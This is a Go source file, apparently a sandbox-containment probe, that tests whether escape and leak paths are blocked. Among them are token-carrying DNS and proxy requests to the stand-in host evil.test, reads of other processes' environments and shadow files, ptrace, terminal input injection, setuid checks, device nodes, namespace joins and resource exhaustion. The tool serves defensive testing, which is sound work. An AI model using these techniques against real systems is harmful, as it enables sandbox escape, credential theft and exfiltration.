package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// probe is what the program knows inside: where the lures are. It is told by an argument, since an environment may not
// come through.
type probe struct {
	Token    string // in everything that should not arrive
	Home     string // of the person outside
	Outside  string // a folder that everybody may write
	Port     string
	Abstract string
	Suid     string // a set-uid copy of this program
	Secret   string // what private files and environments hold
	Passwd   string // SHA-256 of the host's
	Shadow   string
	Canary   int            // a process outside
	Spaces   map[string]int // the host's namespaces, by inode
	SysV     int            // key of a shared memory segment
}

const (
	afUnix, afInet, afNetlink, afVsock, afPacket, afAlg = unix.AF_UNIX, unix.AF_INET, unix.AF_NETLINK, unix.AF_VSOCK, unix.AF_PACKET, unix.AF_ALG
	sockStream, sockDgram, sockRaw, sockSeqpacket       = unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET
	nsUser, nsNet                                       = unix.CLONE_NEWUSER, unix.CLONE_NEWNET

	// patience is for what lies one step away on this machine: who has not answered by then was not reached.
	patience = 1500 * time.Millisecond
	daemonID = "SALLYPORT_CONTAINMENT_DAEMON"
)

// marks of the lines that the probe prints; what else is said is not for us.
const (
	rowMark  = "containment-row"
	factMark = "containment-fact"
	endMark  = "containment-end"
)

// inside is the program within a sandbox: probe CONFIG ROW... tries the rows, or all but those that have their own run.
func inside(args []string) error {
	b, err := base64.RawURLEncoding.DecodeString(args[0])
	if err != nil {
		return err
	}
	p := &probe{}
	if err := json.Unmarshal(b, p); err != nil {
		return err
	}
	runtime.LockOSThread()
	if len(args) > 1 {
		for _, id := range args[1:] {
			r, ok := rowOf(id)
			if !ok {
				return fmt.Errorf("no row %q", id)
			}
			say(rowMark, id, r.try(p))
		}
		fmt.Println(endMark)
		return nil
	}
	for name, value := range p.facts() {
		fmt.Printf("%s\t%s\t%s\n", factMark, name, value)
	}
	for _, g := range groups {
		for _, r := range g.rows {
			if !slices.Contains(alone, r.id) {
				say(rowMark, r.id, r.try(p))
			}
		}
	}
	fmt.Println(endMark)
	return nil
}

func say(mark, id string, r result) { fmt.Printf("%s\t%s\t%v\t%s\n", mark, id, r.allowed, r.detail) }

// said is a result by an error: the errno's name, which says more than its text.
func said(err error) result {
	if err == nil {
		return result{true, ""}
	}
	var no syscall.Errno
	var timeout interface{ Timeout() bool }
	switch {
	case errors.As(err, &no):
		return result{false, unix.ErrnoName(no)}
	case errors.As(err, &timeout) && timeout.Timeout():
		return result{false, "no answer"}
	case errors.Is(err, io.EOF):
		return result{false, "cut"}
	}
	return result{false, err.Error()}
}

func errno(e syscall.Errno) result {
	if e == 0 {
		return result{true, ""}
	}
	return result{false, unix.ErrnoName(e)}
}

// reached is a call whose arguments are no good: another answer than a refusal is the kernel's own code.
func reached(e syscall.Errno) result {
	r := errno(e)
	if !slices.Contains([]syscall.Errno{unix.EPERM, unix.EACCES, unix.ENOSYS, unix.EAFNOSUPPORT}, e) {
		r.allowed = true
	}
	return r
}

// firstOf is the first that is allowed, or the first.
func firstOf(list ...result) result {
	for _, r := range list {
		if r.allowed {
			return r
		}
	}
	return list[0]
}

// In is a path in the working folder.
func (p *probe) In(name string) string {
	dir, _ := os.Getwd()
	return filepath.Join(dir, name)
}

func writeFile(path, text string) error {
	return errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o755))
}

func appendFile(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return errors.Join(err, f.Close())
}

func writeExisting(path, text string) error {
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	_, err = f.WriteString(text)
	return errors.Join(err, f.Close())
}

// openWrite writes nothing. What is masked by the null device is not what was meant.
func openWrite(path string) result { return opened(path, os.O_WRONLY|unix.O_NONBLOCK|unix.O_NOCTTY) }

func openRead(path string) result { return opened(path, os.O_RDONLY|unix.O_NONBLOCK|unix.O_NOCTTY) }

func opened(path string, flags int) result {
	f, err := os.OpenFile(path, flags, 0)
	if err != nil {
		return said(err)
	}
	defer f.Close()
	if fi, err := f.Stat(); err == nil && fi.Mode()&os.ModeCharDevice != 0 && fi.Sys().(*syscall.Stat_t).Rdev == unix.Mkdev(1, 3) {
		return result{false, "masked"}
	}
	return result{true, ""}
}

// holds reads a file and looks for the secret in it.
func (p *probe) holds(path string) result {
	b, err := os.ReadFile(path)
	if err != nil {
		return said(err)
	}
	if !bytes.Contains(b, []byte(p.Secret)) {
		return result{false, "another file"}
	}
	return result{true, ""}
}

// same reads a file and compares it with the host's.
func (p *probe) same(path, sum string) result {
	b, err := os.ReadFile(path)
	if err != nil {
		return said(err)
	}
	if digest(b) != sum {
		return result{false, "another file"}
	}
	return result{true, ""}
}

func digest(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

// talk sends the token and wants an answer: a connection that nobody of ours accepted is none.
func (p *probe) talk(network, address string) result {
	c, err := net.DialTimeout(network, address, patience)
	if err != nil {
		return said(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, p.Token+"\n"); err != nil {
		return said(err)
	}
	b := make([]byte, 64)
	n, err := c.Read(b)
	if err != nil {
		return said(err)
	}
	if string(b[:n]) != answer {
		return result{false, "somebody else answered"}
	}
	return result{true, ""}
}

// answer is what the servers outside say.
const answer = "the outside heard you\n"

// proxied asks the proxy that the environment names for a host that nobody listed.
func (p *probe) proxied() result {
	at := ""
	for _, name := range []string{"HTTP_PROXY", "http_proxy"} {
		if v := os.Getenv(name); v != "" {
			at = v
		}
	}
	u, err := url.Parse(at)
	if at == "" || err != nil || u.Host == "" {
		return result{false, "no proxy"}
	}
	c, err := net.DialTimeout("tcp", u.Host, patience)
	if err != nil {
		return said(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(2 * patience))
	auth := ""
	if u.User != nil {
		auth = "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(u.User.String())) + "\r\n"
	}
	fmt.Fprintf(c, "GET http://evil.test/%s HTTP/1.1\r\nHost: evil.test\r\n%sConnection: close\r\n\r\n", p.Token, auth)
	b, err := io.ReadAll(io.LimitReader(c, 4<<10))
	switch {
	case bytes.Contains(b, []byte(strings.TrimSpace(answer))):
		return result{true, ""}
	case len(b) > 12:
		return result{false, string(b[9:12])}
	}
	return said(errors.Join(err, io.EOF))
}

// resolve asks the first server of resolv.conf, and the host's own, for a name that carries the token. The question arrived or not
// is for the outside to say; an answer is enough.
func (p *probe) resolve() result {
	servers := []string{resolver}
	if b, err := os.ReadFile("/etc/resolv.conf"); err == nil {
		for line := range strings.Lines(string(b)) {
			if f := strings.Fields(line); len(f) > 1 && f[0] == "nameserver" {
				servers = append([]string{f[1]}, servers...)
			}
		}
	}
	last := result{}
	for _, s := range servers {
		last = p.ask(net.JoinHostPort(s, "53"))
		if last.allowed {
			return last
		}
	}
	return last
}

func (p *probe) ask(server string) result {
	c, err := net.DialTimeout("udp", server, patience)
	if err != nil {
		return said(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(p.Token+".evil.test", ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	if _, err := c.Write(append(q, 0, 0, 1, 0, 1)); err != nil {
		return said(err)
	}
	b := make([]byte, 512)
	n, err := c.Read(b)
	if err != nil {
		return said(err)
	}
	if n < 12 || b[3]&15 != 0 || b[7] == 0 {
		return result{false, "answered within"} // by one who asks nobody
	}
	return result{true, ""}
}

// setuid starts set-uid programs and looks at what they have. What has it already gains nothing.
func (p *probe) setuid() result {
	const all = "CapEff"
	before := status("self", all)
	out, err := exec.Command(p.Suid, "status").Output()
	if err == nil {
		uid, caps, _ := strings.Cut(strings.TrimSpace(string(out)), " ")
		if uid == "0" && os.Geteuid() != 0 || caps > before {
			return result{true, ""}
		}
		return result{false, "nothing gained"}
	}
	// The host's own, which waits for a password and is looked at meanwhile.
	for _, su := range []string{"/usr/bin/su", "/bin/su"} {
		if _, err := os.Stat(su); err != nil {
			continue
		}
		cmd := exec.Command(su, "-c", "true")
		in, err := cmd.StdinPipe()
		if err != nil || cmd.Start() != nil {
			continue
		}
		gained := false
		for range 20 {
			time.Sleep(10 * time.Millisecond)
			uid := strings.Fields(status(fmt.Sprint(cmd.Process.Pid), "Uid"))
			gained = gained || len(uid) > 1 && uid[1] == "0" && os.Geteuid() != 0
		}
		_ = in.Close()
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		if gained {
			return result{true, ""}
		}
		return result{false, "nothing gained"}
	}
	return said(err)
}

// status is a line of /proc/PID/status.
func status(pid, key string) string {
	b, _ := os.ReadFile("/proc/" + pid + "/status")
	for line := range strings.Lines(string(b)) {
		if name, value, ok := strings.Cut(line, ":"); ok && name == key {
			return strings.TrimSpace(value)
		}
	}
	return ""
}

// sysv attaches the segment and reads it.
func (p *probe) sysv() result {
	id, _, e := unix.Syscall(unix.SYS_SHMGET, uintptr(p.SysV), 0, 0)
	if e != 0 {
		return errno(e)
	}
	at, _, e := unix.Syscall(unix.SYS_SHMAT, id, 0, unix.SHM_RDONLY)
	if e != 0 {
		return errno(e)
	}
	defer unix.Syscall(unix.SYS_SHMDT, at, 0, 0)
	return result{true, ""}
}

// keys looks for the key by its name in the user's keyring.
func (p *probe) keys() result {
	const search = 10 // KEYCTL_SEARCH
	kind, name := cstring("user"), cstring(p.Secret)
	ring := unix.KEY_SPEC_USER_KEYRING
	_, _, e := unix.Syscall6(unix.SYS_KEYCTL, search, uintptr(ring), uintptr(unsafe.Pointer(kind)), uintptr(unsafe.Pointer(name)), 0, 0)
	return errno(e)
}

func cstring(s string) *byte {
	b, err := unix.BytePtrFromString(s)
	if err != nil {
		panic(err) // names of ours have no NUL
	}
	return b
}

// environs looks into every process in sight.
func (p *probe) environs() result {
	found, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, f := range found {
		if b, err := os.ReadFile(f); err == nil && bytes.Contains(b, []byte(p.Secret)) {
			return result{true, ""}
		}
	}
	if _, err := os.Stat(fmt.Sprintf("/proc/%d", p.Canary)); err != nil {
		return result{false, "not in sight"}
	}
	return result{false, "EACCES"}
}

func (p *probe) signal() result { return said(unix.Kill(p.Canary, unix.SIGUSR1)) }

func (p *probe) traceOutside() result { return said(traced(p.Canary)) }

// traced attaches without stopping, and lets go.
func traced(pid int) error {
	if err := unix.PtraceSeize(pid); err != nil {
		return err
	}
	_ = unix.PtraceInterrupt(pid)
	_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
	return unix.PtraceDetach(pid)
}

func (p *probe) traceOwn() result {
	cmd := exec.Command("/proc/self/exe", "wait")
	if err := cmd.Start(); err != nil {
		return said(err)
	}
	defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
	return said(traced(cmd.Process.Pid))
}

// outlive leaves a process in a session of its own, that holds nothing of ours open.
func (p *probe) outlive() result {
	cmd := exec.Command("/proc/self/exe", "wait")
	cmd.Env = append(os.Environ(), daemonID+"="+p.Token)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return said(cmd.Start())
}

// typeInto puts a byte into the input of every terminal in reach.
func (p *probe) typeInto() result {
	last := result{false, "no terminal"}
	try := func(fd uintptr) bool {
		b := byte('#')
		_, _, e := unix.Syscall(unix.SYS_IOCTL, fd, unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
		if r := errno(e); r.allowed || e != unix.ENOTTY {
			last = r
		}
		return last.allowed
	}
	if f, err := os.OpenFile("/dev/tty", os.O_RDWR, 0); err == nil {
		defer f.Close()
		if try(f.Fd()) {
			return last
		}
	}
	for fd := range uintptr(3) {
		if try(fd) {
			return last
		}
	}
	return last
}

func (p *probe) cgroups() result {
	last := result{false, "ENOENT"}
	_ = filepath.WalkDir("/sys/fs/cgroup", func(path string, d fs.DirEntry, err error) error {
		if strings.Count(path, "/") > 5 || last.allowed {
			return fs.SkipAll
		}
		if err == nil && d.Name() == "cgroup.procs" {
			last = openWrite(path)
		}
		return nil
	})
	return last
}

func (p *probe) disks() result {
	entries, err := os.ReadDir("/dev")
	if err != nil {
		return said(err)
	}
	last := result{false, "none there"}
	for _, e := range entries {
		if m := e.Type(); m&os.ModeDevice != 0 && m&os.ModeCharDevice == 0 {
			if last = openRead("/dev/" + e.Name()); last.allowed {
				return last
			}
		}
	}
	return last
}

// mknod makes the node and opens it: a node that nobody may open is a name.
func (p *probe) mknod() result {
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return said(err)
	}
	dev := unix.Mkdev(254, 0)
	for line := range strings.Lines(string(mounts)) {
		var major, minor uint32
		if f := strings.Fields(line); len(f) > 2 {
			if n, _ := fmt.Sscanf(f[2], "%d:%d", &major, &minor); n == 2 && major > 0 {
				dev = unix.Mkdev(major, minor)
				break
			}
		}
	}
	path := p.In("node")
	_ = os.Remove(path)
	defer os.Remove(path)
	if err := unix.Mknod(path, unix.S_IFBLK|0o600, int(dev)); err != nil {
		return said(err)
	}
	return openRead(path)
}

func cloned(flags uintptr) result {
	cmd := exec.Command("/proc/self/exe", "true")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flags}
	return said(cmd.Run())
}

func (p *probe) mount() result {
	err := unix.Mount("none", p.In("."), "tmpfs", 0, "")
	if err == nil {
		err = unix.Unmount(p.In("."), unix.MNT_DETACH)
	}
	return said(err)
}

func (p *probe) openTree() result {
	fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	return said(err)
}

func (p *probe) setns() result {
	f, err := os.Open("/proc/1/ns/net")
	if err != nil {
		return said(err)
	}
	defer f.Close()
	return said(unix.Setns(int(f.Fd()), unix.CLONE_NEWNET))
}

func (p *probe) chroot() result {
	cmd := exec.Command("/proc/self/exe", "true")
	cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: "/"}
	return said(cmd.Run())
}

func (p *probe) ioUring() result {
	var params [120]byte
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params)), 0)
	if e == 0 {
		unix.Close(int(fd))
	}
	return errno(e)
}

func (p *probe) bpf() result {
	attr := struct{ kind, key, value, entries uint32 }{2, 4, 4, 1}
	fd, _, e := unix.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	if e == 0 {
		unix.Close(int(fd))
	}
	return errno(e)
}

func (p *probe) perf() result {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_TASK_CLOCK, Bits: unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
	attr.Size = uint32(unsafe.Sizeof(attr))
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	return said(err)
}

func (p *probe) userfault() result {
	fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|1, 0, 0)
	if e == 0 {
		unix.Close(int(fd))
	}
	return errno(e)
}

func (p *probe) vmRead() result {
	a, b := []byte("x"), make([]byte, 1)
	_, err := unix.ProcessVMReadv(os.Getpid(), []unix.Iovec{{Base: &b[0], Len: 1}}, []unix.RemoteIovec{{Base: uintptr(unsafe.Pointer(&a[0])), Len: 1}}, 0)
	return said(err)
}

func (p *probe) addKey() result {
	_, err := unix.AddKey("user", "sallyport-containment", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
	return said(err)
}

func (p *probe) handles() result {
	h := unix.NewFileHandle(1, make([]byte, 8))
	_, err := unix.OpenByHandleAt(unix.AT_FDCWD, h, unix.O_PATH)
	var no syscall.Errno
	errors.As(err, &no)
	return reached(no)
}

func (p *probe) personality() result {
	_, _, e := unix.Syscall(unix.SYS_PERSONALITY, 0x0400000, 0, 0)
	if e == 0 {
		unix.Syscall(unix.SYS_PERSONALITY, 0, 0, 0)
	}
	return errno(e)
}

// otherABI tries in a child what a filter may end a process for, or one thread of it, which then hangs.
func (p *probe) otherABI() result {
	ctx, cancel := context.WithTimeout(context.Background(), 2*patience)
	defer cancel()
	out, err := exec.CommandContext(ctx, "/proc/self/exe", "abi").Output()
	if r, ok := parse(string(out)).rows["other-abi"]; ok {
		return r
	}
	var e *exec.ExitError
	if errors.As(err, &e) {
		return result{false, "killed"}
	}
	return said(err)
}

func (p *probe) hostname() result {
	var u unix.Utsname
	if err := unix.Uname(&u); err != nil {
		return said(err)
	}
	return said(unix.Sethostname([]byte(unix.ByteSliceToString(u.Nodename[:]))))
}

func (p *probe) clock() result {
	var t unix.Timex // without a mode it only reads; with one it asks for the right
	t.Modes = unix.ADJ_STATUS
	if _, err := unix.Adjtimex(&unix.Timex{}); err != nil {
		return said(err)
	}
	var now unix.Timex
	_, _ = unix.Adjtimex(&now)
	t.Status = now.Status
	_, err := unix.Adjtimex(&t)
	return said(err)
}

func socket(family, kind, protocol int) result {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
	if err == nil {
		unix.Close(fd)
	}
	return said(err)
}

// memory takes 1 GiB and touches it. What bounds it ends the program.
func (p *probe) memory() result {
	var all [][]byte
	for range 64 {
		b := make([]byte, 16<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		all = append(all, b)
		time.Sleep(30 * time.Millisecond) // one who polls may poll
	}
	time.Sleep(2 * time.Second)
	runtime.KeepAlive(all)
	return result{true, ""}
}

// threads are what the kernel counts as processes. One that cannot be had ends a Go program.
func (p *probe) threads() result {
	begun, end := make(chan bool), make(chan bool)
	for range 600 {
		go func() {
			runtime.LockOSThread()
			begun <- true
			<-end
		}()
		<-begun
	}
	close(end)
	return result{true, ""}
}

// fill writes 600 MiB, and stays to be found by one who polls.
func (p *probe) fill() result {
	f, err := os.Create(p.In("large"))
	if err != nil {
		return said(err)
	}
	defer os.Remove(f.Name())
	defer f.Close()
	b := bytes.Repeat([]byte("x"), 1<<20)
	for range 600 {
		if _, err := f.Write(b); err != nil {
			return said(err)
		}
	}
	time.Sleep(12 * time.Second)
	return result{true, ""}
}

// facts are what the sandbox is.
func (p *probe) facts() map[string]string {
	var own []string
	for _, ns := range []string{"user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"} {
		if fi, err := os.Stat("/proc/self/ns/" + ns); err == nil && int(fi.Sys().(*syscall.Stat_t).Ino) != p.Spaces[ns] {
			own = append(own, ns)
		}
	}
	procs, _ := filepath.Glob("/proc/[0-9]*")
	few := fmt.Sprint(len(procs))
	if len(procs) > 9 {
		few = "the host's"
	}
	short := func(s string) string {
		if s = strings.TrimLeft(s, "0"); s == "" {
			return "0"
		}
		return s
	}
	return map[string]string{"uid": fmt.Sprint(os.Getuid()), "caps": short(status("self", "CapEff")) + ", " + short(status("self", "CapBnd")),
		"nnp": status("self", "NoNewPrivs"), "seccomp": status("self", "Seccomp"), "ns": strings.Join(own, " "), "procs": few}
}
